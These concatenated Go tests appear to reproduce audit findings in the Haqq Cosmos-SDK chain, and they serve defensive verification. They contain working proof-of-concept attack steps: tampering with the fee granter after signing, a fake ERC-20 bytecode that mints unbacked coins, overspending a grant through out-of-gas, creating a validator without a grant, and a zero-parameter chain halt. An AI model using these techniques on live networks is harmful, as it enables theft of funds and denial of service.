	second := epochs.ExportGenesis(ctx2, app2.EpochsKeeper)
	t.Logf("first export: start height %d; second export: start height %d", first.Epochs[0].CurrentEpochStartHeight, second.Epochs[0].CurrentEpochStartHeight)
	require.Equal(t, first, second, "exporting again gives an identical document")
}
