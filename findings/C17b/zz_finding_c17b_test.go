package keeper_test

// L2 reproduction of finding C17-F2 on the full in-process app: CalculateBaseFee applies the minimum-gas-price floor in the
// lowering branch only. When the parent base fee is below the minimum gas price (governance raised the minimum above the
// current base fee) a block with LESS gas gets a HIGHER base fee than a block with more gas: the base fee is not monotone
// in the gas figure, and it stays below the configured minimum whenever g >= T.
// (The repository's own eip1559_test.go pins this behaviour - "same gas as its target, with higher min gas price" expects the
// unchanged base fee - so it cannot be repaired without editing existing tests; recorded as a known finding.)
// Run with tools/run_finding.sh C17b. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"

	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/stretchr/testify/require"
)

func TestVerifFindingC17_BaseFeeNotMonotoneBelowTheMinimumGasPrice(t *testing.T) {
	s := new(KeeperTestSuite)
	s.SetT(t)
	s.SetupTest()
	params := s.app.FeeMarketKeeper.GetParams(s.ctx)
	params.NoBaseFee = false
	params.EnableHeight = 0
	params.MinGasPrice = sdk.NewDec(1500000000) // above the current base fee of 1000000000
	require.NoError(t, s.app.FeeMarketKeeper.SetParams(s.ctx, params))
	ctx := s.ctx.WithBlockHeight(1).WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: 100, MaxBytes: 10}})
	fee := func(gas uint64) *big.Int {
		s.app.FeeMarketKeeper.SetBlockGasWanted(ctx, gas)
		return s.app.FeeMarketKeeper.CalculateBaseFee(ctx)
	}
	// block gas limit 100 (target 50), as in eip1559_test.go
	f49, f50, f100 := fee(49), fee(50), fee(100)
	t.Logf("parent base fee %s, minimum gas price %s: next base fee for g=49: %s, g=50: %s, g=100: %s", params.BaseFee, params.MinGasPrice, f49, f50, f100)
	require.True(t, f49.Cmp(f50) <= 0, "less gas (49) gives a higher base fee (%s) than more gas (50: %s)", f49, f50)
	require.True(t, f50.Cmp(f100) <= 0)
}
