package evm_test

// L2 reproduction of finding C03-F2 on the full in-process app: for an EIP-712 signature made over a SIGN_MODE_DIRECT sign
// doc the typed data is rebuilt from the sign doc with a fee that carries only amount and gas
// (ethereum/eip712/encoding.go decodeProtobufSignDoc); AuthInfo.Fee.Granter (and Payer) are dropped, so they are not covered
// by the signature. A third party can set the fee granter of an already signed transaction: the signature still verifies,
// the ante handler authorises the transaction and the fee is charged to the granter's allowance instead of the signer.
// Run with tools/run_finding.sh C03b. The test states the property; it fails while the defect is present.

import (
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/cosmos-sdk/x/feegrant"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/app/ante"
	ethante "github.com/haqq-network/haqq/app/ante/evm"
	"github.com/haqq-network/haqq/ethereum/eip712"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC03_FeeGranterNotCoveredByEip712DirectSignature(t *testing.T) {
	suite := new(AnteTestSuite)
	suite.SetT(t)
	suite.enableLondonHF = true
	suite.enableFeemarket = false
	suite.SetupTest()
	suite.app.FeeMarketKeeper.SetBaseFee(suite.ctx, big.NewInt(100))

	handler := ante.NewAnteHandler(ante.HandlerOptions{
		Cdc: suite.app.AppCodec(), AccountKeeper: suite.app.AccountKeeper, BankKeeper: suite.app.BankKeeper,
		ExtensionOptionChecker: haqqtypes.HasDynamicFeeExtensionOption, DistributionKeeper: suite.app.DistrKeeper,
		EvmKeeper: suite.app.EvmKeeper, FeegrantKeeper: suite.app.FeeGrantKeeper, IBCKeeper: suite.app.IBCKeeper,
		StakingKeeper: suite.app.StakingKeeper, FeeMarketKeeper: suite.app.FeeMarketKeeper,
		SignModeHandler: suite.clientCtx.TxConfig.SignModeHandler(), SigGasConsumer: ante.SigVerificationGasConsumer,
		TxFeeChecker: ethante.NewDynamicFeeChecker(suite.app.EvmKeeper),
	})

	_, privKey := utiltx.NewAddrKey()
	pubKey := privKey.PubKey()
	signer := sdk.AccAddress(pubKey.Address())
	suite.RegisterAccount(pubKey, big.NewInt(1_000_000_000_000))
	_, granterKey := utiltx.NewAddrKey()
	granter := sdk.AccAddress(granterKey.PubKey().Address())
	suite.RegisterAccount(granterKey.PubKey(), big.NewInt(1_000_000_000_000))
	// the granter once allowed the signer to spend its coins on fees; the signer does NOT use that in this transaction
	suite.Require().NoError(suite.app.FeeGrantKeeper.GrantAllowance(suite.ctx, granter, signer, &feegrant.BasicAllowance{}))

	const gas = uint64(200_000)
	fee := sdk.NewCoins(sdk.NewCoin(evmtypes.DefaultEVMDenom, sdkmath.NewInt(1000).MulRaw(int64(gas))))
	txBuilder := suite.clientCtx.TxConfig.NewTxBuilder()
	txBuilder.SetGasLimit(gas)
	txBuilder.SetFeeAmount(fee)
	recipient := utiltx.GenerateAddress()
	suite.Require().NoError(txBuilder.SetMsgs(banktypes.NewMsgSend(signer, recipient.Bytes(), sdk.NewCoins(sdk.NewCoin(evmtypes.DefaultEVMDenom, sdkmath.NewInt(1))))))
	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, signer)
	suite.Require().NoError(txBuilder.SetSignatures(signing.SignatureV2{PubKey: pubKey, Data: &signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_DIRECT}, Sequence: acc.GetSequence()}))
	signerData := authsigning.SignerData{Address: signer.String(), ChainID: suite.ctx.ChainID(), AccountNumber: acc.GetAccountNumber(), Sequence: acc.GetSequence(), PubKey: pubKey}
	signDocBytes, err := suite.clientCtx.TxConfig.SignModeHandler().GetSignBytes(signing.SignMode_SIGN_MODE_DIRECT, signerData, txBuilder.GetTx())
	suite.Require().NoError(err)
	typedDataBytes, err := eip712.GetEIP712BytesForMsg(signDocBytes)
	suite.Require().NoError(err)
	sigBytes, err := privKey.Sign(typedDataBytes)
	suite.Require().NoError(err)
	suite.Require().NoError(txBuilder.SetSignatures(signing.SignatureV2{PubKey: pubKey, Data: &signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_DIRECT, Signature: sigBytes}, Sequence: acc.GetSequence()}))
	suite.Require().True(pubKey.VerifySignature(signDocBytes, sigBytes))

	// somebody else sets the fee granter of the signed transaction
	txBuilder.SetFeeGranter(granter)
	tamperedBz, err := suite.clientCtx.TxConfig.TxEncoder()(txBuilder.GetTx())
	suite.Require().NoError(err)
	tamperedTx, err := suite.clientCtx.TxConfig.TxDecoder()(tamperedBz)
	suite.Require().NoError(err)
	tamperedSignDoc, err := suite.clientCtx.TxConfig.SignModeHandler().GetSignBytes(signing.SignMode_SIGN_MODE_DIRECT, signerData, tamperedTx)
	suite.Require().NoError(err)
	suite.Require().NotEqual(signDocBytes, tamperedSignDoc, "the sign doc changes with the fee granter")

	keyLevel := pubKey.VerifySignature(tamperedSignDoc, sigBytes)
	branch, _ := suite.ctx.CacheContext()
	_, anteErr := handler(branch, tamperedTx, false)
	granterPaid := new(big.Int).Sub(big.NewInt(1_000_000_000_000), suite.app.EvmKeeper.GetBalance(branch, common.BytesToAddress(granter)))
	signerPaid := new(big.Int).Sub(big.NewInt(1_000_000_000_000), suite.app.EvmKeeper.GetBalance(branch, common.BytesToAddress(signer)))
	t.Logf("signature verifies for the altered sign doc: %v; ante handler error: %v; granter paid %s, signer paid %s", keyLevel, anteErr, granterPaid, signerPaid)
	suite.Require().False(keyLevel, "a signature made for the original sign doc verifies for a sign doc with a different fee granter")
	suite.Require().Error(anteErr, "a transaction whose fee granter was set after signing was authorised (granter paid %s)", granterPaid)
}
