package keeper_test

// L2 reproduction for property C17 (finding C17-F3): consensus parameter Block.MaxGas = 0 is valid and means "no limit" to
// baseapp (infinite block gas meter), so a block can carry transactions; the fee market read 0 as a literal limit, got a gas
// target of 0 and divided by it in the next BeginBlock: "division by zero", chain halt. The base fee under MaxGas = 0 must be
// the one computed under MaxGas = -1. Run with tools/run_finding.sh C17c.

import (
	"testing"

	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/stretchr/testify/require"
)

func TestVerifFindingC17c_MaxGasZeroIsUnlimited(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	suite.SetupTest()
	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.NoBaseFee = false
	params.EnableHeight = 1
	require.NoError(t, suite.app.FeeMarketKeeper.SetParams(suite.ctx, params))
	suite.app.FeeMarketKeeper.SetBlockGasWanted(suite.ctx, 21000)
	at := func(maxGas int64) (fee string, panicked interface{}) {
		defer func() { panicked = recover() }()
		ctx := suite.ctx.WithBlockHeight(5).WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: maxGas, MaxBytes: 10}})
		return suite.app.FeeMarketKeeper.CalculateBaseFee(ctx).String(), nil
	}
	unlimited, p1 := at(-1)
	require.Nil(t, p1)
	zero, p0 := at(0)
	t.Logf("base fee with MaxGas=-1: %s; with MaxGas=0: %s (panic: %v)", unlimited, zero, p0)
	require.Nil(t, p0, "computing the base fee of a block with MaxGas = 0 must not panic")
	require.Equal(t, unlimited, zero, "MaxGas = 0 means no limit, exactly like -1")
}
