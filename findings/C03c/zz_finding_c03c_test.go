package evm_test

// L2 reproduction of finding C03-F3 on the full in-process app: on the legacy EIP-712 route (ExtensionOptionsWeb3Tx,
// app/ante/cosmos/eip712.go VerifySignature) the signed payload is rebuilt with legacytx.StdFee{Amount, Gas}; the
// transaction's fee granter (AuthInfo.Fee.Granter) is left out, while the route's DeductFeeDecorator honours it. A third
// party can set the fee granter of an already signed transaction: the ante handler still accepts it and the fee is charged
// to the granter's allowance. (Sibling of C03-F2, which was the SIGN_MODE_DIRECT route.)
// Run with tools/run_finding.sh C03c. The test states the property; it fails while the defect is present.

import (
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/feegrant"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/app/ante"
	ethante "github.com/haqq-network/haqq/app/ante/evm"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC03_FeeGranterNotCoveredByLegacyEip712Signature(t *testing.T) {
	suite := new(AnteTestSuite)
	suite.SetT(t)
	suite.enableLondonHF = true
	suite.enableFeemarket = false
	suite.useLegacyEIP712Extension = true
	suite.useLegacyEIP712TypedData = true
	suite.SetupTest()
	suite.app.FeeMarketKeeper.SetBaseFee(suite.ctx, big.NewInt(100))

	handler := ante.NewAnteHandler(ante.HandlerOptions{
		Cdc: suite.app.AppCodec(), AccountKeeper: suite.app.AccountKeeper, BankKeeper: suite.app.BankKeeper,
		ExtensionOptionChecker: haqqtypes.HasDynamicFeeExtensionOption, DistributionKeeper: suite.app.DistrKeeper,
		EvmKeeper: suite.app.EvmKeeper, FeegrantKeeper: suite.app.FeeGrantKeeper, IBCKeeper: suite.app.IBCKeeper,
		StakingKeeper: suite.app.StakingKeeper, FeeMarketKeeper: suite.app.FeeMarketKeeper,
		SignModeHandler: suite.clientCtx.TxConfig.SignModeHandler(), SigGasConsumer: ante.SigVerificationGasConsumer,
		TxFeeChecker: ethante.NewDynamicFeeChecker(suite.app.EvmKeeper),
	})

	_, privKey := utiltx.NewAddrKey()
	signer := sdk.AccAddress(privKey.PubKey().Address())
	suite.RegisterAccount(privKey.PubKey(), big.NewInt(1_000_000_000_000))
	_, granterKey := utiltx.NewAddrKey()
	granter := sdk.AccAddress(granterKey.PubKey().Address())
	suite.RegisterAccount(granterKey.PubKey(), big.NewInt(1_000_000_000_000))
	// the granter once allowed the signer to spend its coins on fees; the signer does NOT use that in this transaction
	suite.Require().NoError(suite.app.FeeGrantKeeper.GrantAllowance(suite.ctx, granter, signer, &feegrant.BasicAllowance{}))

	const gas = uint64(200_000)
	fee := sdk.NewCoins(sdk.NewCoin(evmtypes.DefaultEVMDenom, sdkmath.NewInt(1000).MulRaw(int64(gas))))
	txBuilder, err := suite.CreateTestEIP712TxBuilderMsgSend(signer, privKey, suite.ctx.ChainID(), gas, fee)
	suite.Require().NoError(err)

	// control: the signed transaction as the signer made it is accepted and the signer pays
	branch0, _ := suite.ctx.CacheContext()
	_, err = handler(branch0, txBuilder.GetTx(), false)
	suite.Require().NoError(err, "the untouched signed transaction is valid")

	// somebody else sets the fee granter of the signed transaction
	txBuilder.SetFeeGranter(granter)
	branch, _ := suite.ctx.CacheContext()
	_, anteErr := handler(branch, txBuilder.GetTx(), false)
	granterPaid := new(big.Int).Sub(big.NewInt(1_000_000_000_000), suite.app.EvmKeeper.GetBalance(branch, common.BytesToAddress(granter)))
	signerPaid := new(big.Int).Sub(big.NewInt(1_000_000_000_000), suite.app.EvmKeeper.GetBalance(branch, common.BytesToAddress(signer)))
	t.Logf("fee granter set after signing (legacy Web3Tx route): ante error=%v; granter paid %s, signer paid %s", anteErr, granterPaid, signerPaid)
	if anteErr == nil {
		// (a rejected transaction's branch is discarded, so what the fee decorator did before the rejection does not count)
		suite.Require().Zero(granterPaid.Sign(), "the granter was charged for a transaction that never named it when it was signed")
	}
	suite.Require().Error(anteErr, "a transaction whose fee granter was changed after signing must be rejected")
}
