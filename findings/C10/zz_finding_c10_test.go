package keeper_test

// L2 reproduction of finding C10-F1 on the full in-process app: the EVM hook (PostTxProcessing) mints coins for an
// ERC20-origin pair as soon as a receipt carries a Transfer(_, erc20 module, amount) log of the registered contract -
// unlike the message path it never compares balanceOf(module) before / after. A registered contract that emits the event
// without moving tokens obtains unbacked coins: the coin supply exceeds the tokens escrowed by the module.
// Run with tools/run_finding.sh C10. The test FAILS while the finding is open (it states the property).

import (
	"math/big"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// findingFakeToken: answers name() / symbol() / decimals() like an ERC-20 (so that it can be registered) and, on any other
// call, emits Transfer(msg.sender, erc20 module, 1000) without keeping any ledger at all.
func findingFakeToken() []byte {
	topic := crypto.Keccak256([]byte("Transfer(address,address,uint256)"))
	code := []byte{
		0x60, 0x00, 0x35, 0x60, 0xe0, 0x1c, // selector = calldataload(0) >> 224
		0x80, 0x63, 0x06, 0xfd, 0xde, 0x03, 0x14, 0x60, 0x00, 0x57, // name()    -> str   (patched below)
		0x80, 0x63, 0x95, 0xd8, 0x9b, 0x41, 0x14, 0x60, 0x00, 0x57, // symbol()  -> str
		0x80, 0x63, 0x31, 0x3c, 0xe5, 0x67, 0x14, 0x60, 0x00, 0x57, // decimals()-> dec
		0x61, 0x03, 0xe8, 0x60, 0x00, 0x52, // mstore(0, 1000)
		0x73, // PUSH20 module
	}
	code = append(code, types.ModuleAddress.Bytes()...)
	code = append(code, 0x33, 0x7f) // CALLER PUSH32 topic
	code = append(code, topic...)
	code = append(code, 0x60, 0x20, 0x60, 0x00, 0xa3, 0x00) // LOG3(0, 32, topic, caller, module); STOP
	str := len(code)
	code = append(code,
		0x5b, 0x60, 0x20, 0x60, 0x00, 0x52, // mstore(0, 0x20)
		0x60, 0x03, 0x60, 0x20, 0x52, // mstore(0x20, 3)
		0x7f, 'X', 'Y', 'Z')
	code = append(code, make([]byte, 29)...)
	code = append(code, 0x60, 0x40, 0x52, 0x60, 0x60, 0x60, 0x00, 0xf3) // mstore(0x40, "XYZ"); return(0, 0x60)
	dec := len(code)
	code = append(code, 0x5b, 0x60, 0x12, 0x60, 0x00, 0x52, 0x60, 0x20, 0x60, 0x00, 0xf3) // return 18
	code[14], code[24], code[34] = byte(str), byte(str), byte(dec)
	return code
}

func TestVerifFindingC10_HookMintsOnUnbackedTransferLog(t *testing.T) {
	s = new(KeeperTestSuite)
	s.SetT(t)
	s.DoSetupTest(t)
	s.ensureHooksSet()
	runtime := findingFakeToken()
	require.Less(t, len(runtime), 256)
	init := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
	s.Commit()
	contract, err := testutil.DeployContract(s.ctx, s.app, s.priv, s.queryClientEvm, evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: init})
	require.NoError(t, err)
	s.Commit()

	pair, err := s.app.Erc20Keeper.RegisterERC20(s.ctx, contract)
	require.NoError(t, err, "the contract answers name/symbol/decimals, so it can be registered like any external ERC-20")
	s.Commit()

	holder := sdk.AccAddress(s.address.Bytes())
	require.True(t, s.app.BankKeeper.GetBalance(s.ctx, holder, pair.Denom).IsZero())

	// any call to the contract: it only emits the event
	s.sendTx(contract, s.address, []byte{0xde, 0xad, 0xbe, 0xef})

	minted := s.app.BankKeeper.GetBalance(s.ctx, holder, pair.Denom).Amount
	supply := s.app.BankKeeper.GetSupply(s.ctx, pair.Denom).Amount
	t.Logf("coins received by the caller: %s, coin supply of the pair: %s; tokens escrowed by the module: 0 (the contract keeps no ledger)", minted, supply)
	require.True(t, supply.IsZero(), "coin supply (%s) exceeds the tokens escrowed by the module (0)", supply)
	_ = big.NewInt
	_ = common.Address{}
}
