package staking_test

// L2 reproduction of finding C04-F4 on the full in-process app (test written by a seeding sub-agent for a side remark, kept
// as is): a limited MsgDelegate grant is overspent when the staking precompile runs out of gas after the staking module
// applied the message but before the grant was rewritten, and the calling contract ignores the failed call - the EVM reverts
// only its journal, the writes to the SDK context stay. Four transactions forwarding 100000 gas each delegate 2 ISLM under a
// 0.75 ISLM grant that still reads 0.75 afterwards.
// Run with tools/run_finding.sh C04-oog. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/onsi/gomega"

	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/evm/statedb"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC04_GrantOverspentViaOutOfGas(t *testing.T) {
	gomega.RegisterTestingT(t)

	// Forwarding contract: calldata = [32-byte gas][payload]. It executes
	// CALL(gas, 0x0000..0800, 0, payload), IGNORES a failure and returns the success flag.
	//   PUSH1 20 CALLDATASIZE SUB DUP1 PUSH1 20 PUSH1 0 CALLDATACOPY
	//   PUSH1 0 PUSH1 0 DUP3 PUSH1 0 PUSH1 0 PUSH2 0800 PUSH1 0 CALLDATALOAD CALL
	//   PUSH1 0 MSTORE PUSH1 20 PUSH1 0 RETURN
	code := common.FromHex("60203603806020600037600060008260006000610800600035f160005260206000f3")
	proxy := common.HexToAddress("0x00000000000000000000000000000000000c0de1")
	codeHash := crypto.Keccak256Hash(code)

	ts := new(PrecompileTestSuite)
	ts.SetT(t)
	ts.SetupTest()
	ts.NextBlock()
	ts.app.EvmKeeper.SetCode(ts.ctx, codeHash.Bytes(), code)
	ts.Require().NoError(ts.app.EvmKeeper.SetAccount(ts.ctx, proxy, statedb.Account{Nonce: 1, Balance: big.NewInt(0), CodeHash: codeHash.Bytes()}))
	ts.NextBlock()

	val := ts.validators[0].GetOperator()
	amount := big.NewInt(5e17)
	// the signer grants the contract a MsgDelegate allowance of 0.75 ISLM in total
	limit := sdk.NewCoin(ts.bondDenom, math.NewInt(75e16))
	ts.Require().NoError(ts.CreateAuthorization(proxy, staking.DelegateAuthz, &limit))
	ts.NextBlock()

	payload, err := ts.precompile.ABI.Pack(staking.DelegateMethod, ts.address, val.String(), amount)
	ts.Require().NoError(err)

	before, found := ts.app.StakingKeeper.GetDelegation(ts.ctx, ts.address.Bytes(), val)
	ts.Require().True(found)

	// 100000 gas lies inside the window (about 85200 .. 111900 with this set-up) in which
	// msgSrv.Delegate has completed and UpdateStakingAuthorization / SaveGrant runs out of gas
	const innerGas = 100000
	for i := 0; i < 4; i++ {
		input := append(common.LeftPadBytes(new(big.Int).SetUint64(innerGas).Bytes(), 32), payload...)
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID:  ts.app.EvmKeeper.ChainID(),
			Nonce:    ts.app.EvmKeeper.GetNonce(ts.ctx, ts.address),
			To:       &proxy,
			GasLimit: 1000000,
			GasPrice: ts.app.FeeMarketKeeper.GetBaseFee(ts.ctx),
			Input:    input,
		})
		msg.From = ts.address.Hex()
		res, err := haqqtestutil.DeliverEthTx(ts.app, ts.privKey, msg)
		ts.Require().NoError(err)
		ts.Require().True(res.IsOK(), res.Log)
		er, err := evmtypes.DecodeTxResponse(res.Data)
		ts.Require().NoError(err)
		ts.Require().Empty(er.VmError, "the outer transaction succeeds")
		t.Logf("tx %d: precompile call success flag = %x", i, er.Ret[31:])
		ts.NextBlock()
	}

	after, _ := ts.app.StakingKeeper.GetDelegation(ts.ctx, ts.address.Bytes(), val)
	spent := after.GetShares().Sub(before.GetShares()).BigInt()
	auth, _ := ts.CheckAuthorization(staking.DelegateAuthz, proxy, ts.address)
	t.Logf("delegated on behalf of the signer: %s, grant limit was %s, grant now: %v", spent, limit.Amount, auth)

	ts.Require().True(spent.Cmp(limit.Amount.BigInt()) <= 0,
		"a grant limited to %s was used to delegate %s of the signer's coins", limit.Amount, spent)
}
