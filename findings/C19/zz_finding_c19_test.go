package keeper_test

// L2 reproduction of finding C19-F1 (coinomics InitGenesis dropped PrevBlockTs, which ExportGenesis writes).
// Run with: tools/run_finding.sh C19. Fails before the "fix:" commit, passes after.

import (
	"testing"

	sdkmath "cosmossdk.io/math"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/x/coinomics"
)

func TestVerifFindingC19_PrevBlockTsSurvivesExportImport(t *testing.T) {
	s = new(KeeperTestSuite)
	s.DoSetupTest(t)
	k := s.app.CoinomicsKeeper
	k.SetPrevBlockTS(s.ctx, sdkmath.NewInt(1643587210000))
	exported := coinomics.ExportGenesis(s.ctx, k)
	require.Equal(t, "1643587210000", exported.PrevBlockTs.String())

	// a fresh chain initialised from the export
	s2 := new(KeeperTestSuite)
	saved := s
	s = s2
	s2.DoSetupTest(t)
	s = saved
	k2 := s2.app.CoinomicsKeeper
	coinomics.InitGenesis(s2.ctx, k2, s2.app.AccountKeeper, s2.app.StakingKeeper, *exported)
	require.Equal(t, "1643587210000", k2.GetPrevBlockTS(s2.ctx).String(), "PrevBlockTs dropped by the export/import cycle")
	again := coinomics.ExportGenesis(s2.ctx, k2)
	require.Equal(t, exported, again, "re-export differs")
}
