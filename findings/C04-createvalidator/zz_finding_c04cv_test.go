package staking_test

// L2 reproduction of finding C04-F3 on the full in-process app: createValidator only compares the named delegator with the
// transaction signer (tx.origin). A contract the signer merely calls - holding no grant of any kind - can therefore create a
// validator for the signer and self-bond the signer's coins. C04 requires a live grant whenever the caller is not the signer;
// no staking authorization covers MsgCreateValidator, so such a call must be refused.
// Run with tools/run_finding.sh C04-createvalidator. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC04_CreateValidatorByUngrantedContract(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	ds.DoSetupTest()
	var err error
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	// forwarder: CALLDATACOPY(0,0,cds); ok := CALL(gas, 0x800, 0, 0, cds, 0, 0); SSTORE(0, ok+1); STOP
	runtime := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x00, 0x5a, 0xf1,
		0x60, 0x01, 0x01, 0x60, 0x00, 0x55,
		0x00,
	}
	init := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
	contractAddr, err := ds.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: init})
	require.NoError(t, err)
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)

	signer := sdk.AccAddress(ds.address.Bytes())
	require.Nil(t, ds.app.StakingKeeper.Validator(ds.ctx, sdk.ValAddress(signer)), "the signer is not a validator to begin with")
	balBefore := ds.app.BankKeeper.GetBalance(ds.ctx, signer, ds.bondDenom)
	value := big.NewInt(1205000000000000000)
	require.True(t, balBefore.Amount.GT(math.NewIntFromBigInt(value)))

	// the signer calls the contract (no grant of any kind exists); the contract forwards createValidator naming the signer
	_, ethRes, err := contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: contractAddr, ContractABI: ds.precompile.ABI, PrivKey: ds.privKey,
		MethodName: staking.CreateValidatorMethod, GasLimit: 3_000_000,
		Args: []interface{}{
			staking.Description{Moniker: "node0"},
			staking.Commission{Rate: math.LegacyOneDec().BigInt(), MaxRate: math.LegacyOneDec().BigInt(), MaxChangeRate: math.LegacyOneDec().BigInt()},
			big.NewInt(1), ds.address, sdk.ValAddress(signer).String(), "nfJ0axJC9dhta1MAE1EBFaVdxxkYzxYrBaHuJVjG//M=", value,
		},
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	ok := ds.app.EvmKeeper.GetState(ds.ctx, contractAddr, common.Hash{}).Big().Int64()
	val := ds.app.StakingKeeper.Validator(ds.ctx, sdk.ValAddress(signer))
	balAfter := ds.app.BankKeeper.GetBalance(ds.ctx, signer, ds.bondDenom)
	t.Logf("precompile call inside the contract returned success=%d; validator created for the signer: %v; signer balance %s -> %s", ok-1, val != nil, balBefore.Amount, balAfter.Amount)
	require.Equal(t, int64(1), ok, "createValidator by a contract without a grant must fail")
	require.Nil(t, val, "an ungranted contract created a validator for the signer")
	require.True(t, balBefore.Amount.Sub(balAfter.Amount).LT(math.NewIntFromBigInt(value)), "the signer's coins were self-bonded by an ungranted contract: %s -> %s", balBefore.Amount, balAfter.Amount)
}
