package keeper_test

// L2 reproduction of finding C17-F1 on the full in-process app: CalculateBaseFee divides the block gas limit by
// Params.ElasticityMultiplier under the comment "CONTRACT: ElasticityMultiplier cannot be 0 as it's checked in the params
// validation" - but neither Params.Validate nor validateElasticityMultiplier rejects 0. A governance MsgUpdateParams with
// elasticity_multiplier = 0 passes ValidateBasic and the message server; from the next block on BeginBlock panics with a
// division by zero on every node: no base fee is ever computed again.
// Run with tools/run_finding.sh C17. The test states the property; it FAILS while the finding is open.

import (
	"testing"

	abci "github.com/cometbft/cometbft/abci/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/x/feemarket/types"
)

func TestVerifFindingC17_ZeroElasticityAcceptedThenBeginBlockPanics(t *testing.T) {
	s := new(KeeperTestSuite)
	s.SetT(t)
	s.SetupTest()
	params := s.app.FeeMarketKeeper.GetParams(s.ctx)
	params.NoBaseFee = false
	params.EnableHeight = 0
	params.ElasticityMultiplier = 0
	msg := &types.MsgUpdateParams{Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(), Params: params}
	errBasic := msg.ValidateBasic()
	var errExec error
	if errBasic == nil {
		_, errExec = s.app.FeeMarketKeeper.UpdateParams(s.ctx, msg)
	}
	accepted := errBasic == nil && errExec == nil
	panicked := false
	if accepted {
		func() {
			defer func() {
				if r := recover(); r != nil {
					panicked = true
					t.Logf("BeginBlock after the accepted parameter change panicked: %v", r)
				}
			}()
			s.app.FeeMarketKeeper.BeginBlock(s.ctx.WithBlockHeight(s.ctx.BlockHeight()+1), abci.RequestBeginBlock{})
		}()
	}
	t.Logf("elasticity_multiplier = 0: ValidateBasic err=%v, UpdateParams err=%v, BeginBlock panicked=%v", errBasic, errExec, panicked)
	require.False(t, accepted && panicked, "a parameter set accepted by the module's validation makes the base fee computation panic in BeginBlock")
	require.False(t, accepted, "elasticity_multiplier = 0 must be refused by the parameter validation (CalculateBaseFee relies on it)")
}
