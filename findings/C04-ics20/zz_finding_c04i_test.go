package ics20_test

// L2 reproduction of finding C04-F2 on the full in-process app: the ICS-20 precompile's approve() takes allocations with a
// receiver allow list (ICS20Allocation.AllowList in the ABI), but checkTransferAuthzArgs builds the stored
// TransferAuthorization without it. The signer believes the grant is restricted to the listed receivers; the stored grant
// allows any receiver.
